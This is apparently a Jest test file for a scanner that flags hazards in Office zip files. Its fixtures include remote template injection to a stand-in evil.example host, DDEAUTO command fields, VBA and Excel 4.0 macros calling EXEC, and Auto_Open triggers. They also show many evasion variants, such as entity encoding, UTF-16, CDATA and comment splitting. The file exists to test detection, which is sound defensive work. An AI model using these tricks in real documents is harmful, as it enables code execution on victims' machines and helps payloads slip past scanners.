/** Office files of the zip kind, written so that a search for text finds nothing in them: programs read XML, types and relations. */
import { describe, expect, test } from '@jest/globals';
import { readAttachments } from '../../../src/traits/attachments.ts';
import { compound } from '../compound.ts';
import { part, zipWith } from '../parts.ts';

const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const TARGET = 'http://evil.example/t.dotm';
const relation = (type: string, target = TARGET, mode = 'External'): string =>
  `<Relationships><Relationship Id="r1" Type="${RELATIONS}/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
const template = relation('attachedTemplate');
const word = (parts: Readonly<Record<string, Buffer | string>>): Buffer =>
  zipWith({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>', ...parts });
const settings = (xml: Buffer | string): Buffer => word({ 'word/_rels/settings.xml.rels': xml });
const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le');

async function read(name: string, content: Buffer) {
  const { attachments, links, defects } = await readAttachments({ parts: [part(name, content)] });
  const hazards = attachments[0]?.hazards.map(({ kind, quote }) => `${kind}: ${quote}`);
  return { hazards, links: links.map(({ url }) => url), defects: defects.map(({ code }) => code) };
}

describe('a template from elsewhere', () => {
  const many = Object.fromEntries(Array.from({ length: 60 }, (_, i) => [`a/_rels/${i}.rels`, '<Relationships/>']));
  test.each([
    ['plainly', settings(template), TARGET],
    ['with > in its address', settings(relation('attachedTemplate', `${TARGET}?a>b`)), `${TARGET}?a>b`],
    ['with a letter of its address as a number', settings(template.replace('"http:', '"&#x68;ttp:')), TARGET],
    ['with a letter of its type as a number', settings(template.replace('Template"', '&#84;emplate"')), TARGET],
    ['with a letter of its mode as a number', settings(template.replace('"External', '"&#69;xternal')), TARGET],
    ['with a prefix', settings(template.replaceAll('<Rel', '<p:Rel').replaceAll('</Rel', '</p:Rel')), TARGET],
    ['in UTF-16', settings(utf16(template)), TARGET],
    ['in UTF-16 the other way round', settings(utf16(template).swap16()), TARGET],
    ['behind sixty parts without any', word({ ...many, 'word/_rels/settings.xml.rels': template }), TARGET],
  ])('%s', async (_name, content, target) => {
    expect(await read('a.docx', content)).toEqual({
      hazards: [`remote-template: attachedTemplate ${target}`],
      links: [],
      defects: [],
    });
  });
  test('behind more than is read of a part is told', async () => {
    const noise = Array.from({ length: 330_000 }, (_, i) =>
      (Math.imul(i, 2_654_435_761) >>> 0).toString(36).padEnd(13, 'q'),
    );
    const { defects } = await read('a.docx', settings(template.replace('<Rel', `<!--${noise.join('')}--><Rel`)));
    expect(defects).toEqual(['unread-files']);
  });
  test('a link with > in its address', async () => {
    expect((await read('a.docx', settings(relation('hyperlink', `${TARGET}?a>b`)))).links).toEqual([`${TARGET}?a%3Eb`]);
  });
});

describe('another workbook', () => {
  const OTHER = 'https://other.example/p.xlsx';
  const linked = (target: string, part = '<externalLink><externalBook/></externalLink>'): Buffer =>
    zipWith({
      '[Content_Types].xml': '<Types/>',
      'xl/workbook.xml': '<workbook/>',
      'xl/externalLinks/externalLink1.xml': part,
      'xl/externalLinks/_rels/externalLink1.xml.rels': relation('externalLinkPath', target),
    });
  test.each([
    ['gives values', linked(OTHER), [`linked-workbook: externalLinkPath ${OTHER}`]],
    ['behind a query', linked(`${OTHER}?web=1`), [`linked-workbook: externalLinkPath ${OTHER}?web=1`]],
    ['with a moniker', linked(`${OTHER}!A1`), [`remote-template: externalLinkPath ${OTHER}!A1`]],
    [
      'that is a page',
      linked('https://other.example/p.html'),
      ['remote-template: externalLinkPath https://other.example/p.html'],
    ],
    [
      'that is an object',
      linked(OTHER, '<externalLink><oleLink progId="Package"/></externalLink>'),
      [`remote-template: externalLinkPath ${OTHER}`],
    ],
    ['on the writer’s disk', linked('file:///P:\\a\\p.xlsx'), []],
  ])('%s', async (_name, content, expected) => {
    expect((await read('a.xlsx', content)).hazards).toEqual(expected);
  });
  const relations = (type: string, targets: readonly string[]): string =>
    `<Relationships>${targets.map((target) => relation(type, target).replace(/<\/?Relationships>/g, '')).join('')}</Relationships>`;
  test('many of one server are listed once, so that they hide nothing', async () => {
    const shares = Array.from({ length: 20 }, (_, i) => `file:///\\\\fs01\\x\\${i}.dotm`);
    const pages = Array.from({ length: 20 }, (_, i) => `https://other.example/${i}.xlsx`);
    const content = word({
      'a/_rels/a.rels': relations('frame', shares),
      'b/_rels/b.rels': relations('externalLinkPath', [...pages, '\\\\evil.example\\x\\p.xlsx']),
      'word/_rels/settings.xml.rels': template,
    });
    expect((await read('a.docx', content)).hazards).toEqual([
      `remote-template: frame ${shares[0]}`,
      `remote-template: attachedTemplate ${TARGET}`,
      `linked-workbook: externalLinkPath ${pages[0]}`,
      'linked-workbook: externalLinkPath \\\\evil.example\\x\\p.xlsx',
    ]);
  });
});

describe('a field that starts a program', () => {
  const field = (xml: string) => word({ 'word/document.xml': xml });
  const run = (code: string, prefix = 'w') =>
    `<${prefix}:document xmlns:${prefix}="x"><${prefix}:instrText>${code}</${prefix}:instrText></${prefix}:document>`;
  test.each([
    ['plainly', field(run('DDEAUTO c:\\\\x "y"'))],
    ['under another prefix', field(run('DDEAUTO c:\\\\x "y"', 'v'))],
    ['with a letter as a number', field(run('&#68;DEAUTO c:\\\\x "y"'))],
    ['with a comment in a word', field(run('D<!-- -->DEAUTO c:\\\\x "y"'))],
    ['as CDATA', field(run('<![CDATA[DDEAUTO c:\\\\x "y"]]>'))],
    ['in an attribute', field('<w:document><w:fldSimple w:instr="&#68;DEAUTO c:\\\\x &quot;y&quot;"/></w:document>')],
    ['in a document under another name', word({ 'word/d.xml': run('DDEAUTO c:\\\\x "y"') })],
    ['behind a long comment', word({ 'word/d.xml': `<!--${'x'.repeat(2_000)}-->${run('DDEAUTO c:\\\\x "y"')}` })],
  ])('%s', async (_name, content) => {
    expect((await read('a.docx', content)).hazards).toEqual(['command-field: DDEAUTO c:\\\\x "y"']);
  });
  test('words of a text are none', async () => {
    expect(
      (await read('a.docx', field('<w:document><w:t>instrText DDEAUTO c:\\\\x</w:t></w:document>'))).hazards,
    ).toEqual([]);
  });
});

describe('macros', () => {
  const project = compound({ _VBA_PROJECT: Buffer.alloc(10), m: Buffer.alloc(10) }, { storage: 'VBA' });
  const sheet = '<xm:macrosheet xmlns:xm="x"><xm:c><xm:f>E&#88;EC("calc")</xm:f></xm:c></xm:macrosheet>';
  test.each([
    ['under the usual name', 'a.docm', word({ 'word/vbaProject.bin': project }), ['macro: VBA project']],
    [
      'under another, with blanks before',
      'a.docx',
      word({ 'word/x.xml': `${' '.repeat(4_000)}<p:macrosheet/>` }),
      ['macro: Excel 4.0 macro sheet word/x.xml'],
    ],
    ['under another', 'a.docm', word({ 'word/media/image1.png': project }), ['macro: VBA project']],
    [
      'declared, and damaged',
      'a.docm',
      word({
        '[Content_Types].xml':
          '<Types><Override PartName="/word/x.dat" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        'word/x.dat': 'x',
      }),
      ['macro: VBA project'],
    ],
    [
      'of Excel 4.0 under another name',
      'a.xlsm',
      zipWith({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<workbook/>', 'xl/m/s1.xml': sheet }),
      ['macro: Excel 4.0 macro sheet xl/m/s1.xml', 'macro-call: EXEC'],
    ],
    [
      'that run, their name in numbers',
      'a.xlsm',
      zipWith({
        '[Content_Types].xml': '<Types/>',
        'xl/workbook.xml':
          '<workbook><definedNames><definedName name="_xlnm.Auto&#95;Open">x</definedName></definedNames></workbook>',
      }),
      ['macro-auto-run: Auto_Open'],
    ],
  ])('%s', async (_name, fileName, content, expected) => {
    expect((await read(fileName, content)).hazards).toEqual(expected);
  });
  test('an object without any is none', async () => {
    expect(
      (await read('a.docx', word({ 'word/embeddings/o.bin': compound({ Contents: Buffer.alloc(9) }) }))).hazards,
    ).toEqual([]);
  });
});
